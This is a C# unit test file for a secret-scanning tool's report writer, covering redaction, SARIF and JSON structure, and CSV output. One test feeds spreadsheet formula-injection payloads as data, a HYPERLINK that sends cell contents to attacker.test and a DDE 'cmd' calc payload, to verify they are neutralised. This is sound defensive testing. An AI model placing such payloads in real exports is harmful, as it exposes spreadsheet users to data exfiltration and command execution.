using System.Text.Json;
using LeakNode.Scanner.Reporting;
using LeakNode.Scanner.Tests.Support;

namespace LeakNode.Scanner.Tests.Reporting;

public sealed class ReportTests : IDisposable
{
    private readonly SecretFactory _factory = new(seed: 21);
    private readonly TempFolder _folder = new();
    private readonly string _token;
    private readonly ScanResult _result;

    public ReportTests()
    {
        _token = _factory.GitHubStyle("gh" + "p_");
        _folder.Write("src/my app/config.py", $"x = 1\nTOKEN = \"{_token}\"\n");
        _folder.Write("keys/id_rsa", _factory.PrivateKey());
        _result = new SecretScanner().ScanAsync(_folder.Path).GetAwaiter().GetResult();
    }

    private string Render(ReportFormat format, bool redact = true)
    {
        using var writer = new StringWriter();
        ReportWriter.Write(format, _result, writer, redact);
        return writer.ToString();
    }

    public static TheoryData<ReportFormat> Formats() => [ReportFormat.Text, ReportFormat.Json, ReportFormat.Sarif, ReportFormat.Csv];

    [Theory]
    [MemberData(nameof(Formats))]
    public void Write_Redacted_NoSecretOnlyPreviews(ReportFormat format)
    {
        var report = Render(format);

        Assert.DoesNotContain(_token, report, StringComparison.Ordinal);
        Assert.DoesNotContain(_token[4..^4], report, StringComparison.Ordinal);
        Assert.Contains("gh" + "p_…" + _token[^4..], report, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Formats))]
    public void Write_NoRedact_SecretShown(ReportFormat format) =>
        Assert.Contains(_token, Render(format, redact: false), StringComparison.Ordinal);

    /// <summary>
    /// The SARIF 2.1.0 schema's required properties, plus what GitHub code scanning needs to ingest a result
    /// (<see cref="SarifValidationTests"/> checks the whole schema and SARIF's rules with Microsoft's Multitool).
    /// </summary>
    [Fact]
    public void Write_Sarif_HasTheShapeOfSarif210AndWhatCodeScanningNeeds()
    {
        using var sarif = JsonDocument.Parse(Render(ReportFormat.Sarif));
        var root = sarif.RootElement;

        Assert.Equal("2.1.0", root.GetProperty("version").GetString());
        Assert.EndsWith("sarif-2.1.0.json", root.GetProperty("$schema").GetString(), StringComparison.Ordinal);
        var run = Assert.Single(root.GetProperty("runs").EnumerateArray());
        var driver = run.GetProperty("tool").GetProperty("driver");
        Assert.Equal("leaknode", driver.GetProperty("name").GetString());
        var rules = driver.GetProperty("rules").EnumerateArray().ToList();
        Assert.All(rules, rule =>
        {
            Assert.False(string.IsNullOrEmpty(rule.GetProperty("id").GetString()));
            Assert.False(string.IsNullOrEmpty(rule.GetProperty("shortDescription").GetProperty("text").GetString()));
            Assert.Contains(rule.GetProperty("defaultConfiguration").GetProperty("level").GetString(), (string[])["error", "warning", "note"]);
            Assert.True(double.TryParse(rule.GetProperty("properties").GetProperty("security-severity").GetString(), System.Globalization.CultureInfo.InvariantCulture, out _));
        });

        var results = run.GetProperty("results").EnumerateArray().ToList();
        Assert.Equal(2, results.Count);
        foreach (var result in results)
        {
            var ruleId = result.GetProperty("ruleId").GetString();
            Assert.Equal(ruleId, rules[result.GetProperty("ruleIndex").GetInt32()].GetProperty("id").GetString());
            Assert.False(string.IsNullOrEmpty(result.GetProperty("message").GetProperty("text").GetString()));
            var physical = Assert.Single(result.GetProperty("locations").EnumerateArray()).GetProperty("physicalLocation");
            var uri = physical.GetProperty("artifactLocation").GetProperty("uri").GetString()!;
            Assert.True(Uri.IsWellFormedUriString(uri, UriKind.Relative), uri);
            var region = physical.GetProperty("region");
            Assert.True(region.GetProperty("startLine").GetInt32() >= 1);
            Assert.True(region.GetProperty("startColumn").GetInt32() >= 1);
            Assert.True(region.GetProperty("endColumn").GetInt32() > region.GetProperty("startColumn").GetInt32() || region.GetProperty("endLine").GetInt32() > region.GetProperty("startLine").GetInt32());
            Assert.Matches("^[0-9a-f]{32}$", result.GetProperty("partialFingerprints").GetProperty("leaknodeFingerprint/v1").GetString()!);
        }
        Assert.Contains(results, r => r.GetProperty("locations")[0].GetProperty("physicalLocation").GetProperty("artifactLocation").GetProperty("uri").GetString() == "src/my%20app/config.py");
    }

    [Fact]
    public void Write_Json_FindingsWithLocationsAndSummary()
    {
        using var json = JsonDocument.Parse(Render(ReportFormat.Json));

        Assert.Equal(2, json.RootElement.GetProperty("summary").GetProperty("findings").GetInt32());
        var finding = json.RootElement.GetProperty("findings").EnumerateArray().Single(f => f.GetProperty("ruleId").GetString() == "github-pat");
        Assert.Equal("src/my app/config.py", finding.GetProperty("path").GetString());
        Assert.Equal(2, finding.GetProperty("startLine").GetInt32());
        Assert.Equal("critical", finding.GetProperty("severity").GetString());
        Assert.False(finding.TryGetProperty("secret", out _));
    }

    [Fact]
    public void Write_Csv_HeaderAndOneQuotedRowAFinding()
    {
        var lines = Render(ReportFormat.Csv).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.StartsWith("RuleID,Kind,Severity,", lines[0], StringComparison.Ordinal);
        Assert.Equal(3, lines.Length);
        Assert.All(lines[1..], line => Assert.StartsWith("\"", line, StringComparison.Ordinal));
    }

    public static TheoryData<string> FormulaStarts() => ["=", "+", "-", "@", "\t", "\r"];

    /// <summary>OWASP CSV injection: a cell a spreadsheet would run as a formula starts with ' instead.</summary>
    [Theory]
    [MemberData(nameof(FormulaStarts))]
    public void Write_Csv_CellsStartingLikeAFormula_PrefixedWithQuote(string start)
    {
        var hostile = start + "HYPERLINK(\"http://attacker.test/?\"&A1)";
        var finding = new Finding
        {
            RuleId = start + "rule",
            Kind = "generic",
            Description = hostile,
            Secret = start + "secret",
            Preview = start + "preview",
            Path = hostile,
            Author = start + "cmd|' /C calc'!A0",
            Email = "safe@example.test",
            Fingerprint = "0123",
        };
        var result = new ScanResult { Target = "t", Findings = [finding], Notices = [], Statistics = new ScanStatistics() };
        using var writer = new StringWriter();

        ReportWriter.Write(ReportFormat.Csv, result, writer, redact: false);

        var fields = writer.ToString().Split("\r\n", 2)[1].TrimEnd('\n', '\r');
        Assert.Contains($"\"'{start}rule\",", fields, StringComparison.Ordinal);
        Assert.Contains($"\"'{start}secret\",", fields, StringComparison.Ordinal);
        Assert.Contains($"\"'{start}cmd|' /C calc'!A0\",", fields, StringComparison.Ordinal);
        Assert.Contains($"\"'{start}HYPERLINK(\"\"http://attacker.test/?\"\"&A1)\",", fields, StringComparison.Ordinal);
        Assert.Contains("\"safe@example.test\"", fields, StringComparison.Ordinal);
        Assert.DoesNotContain($",\"{start}", fields, StringComparison.Ordinal);
    }

    public void Dispose() => _folder.Dispose();
}
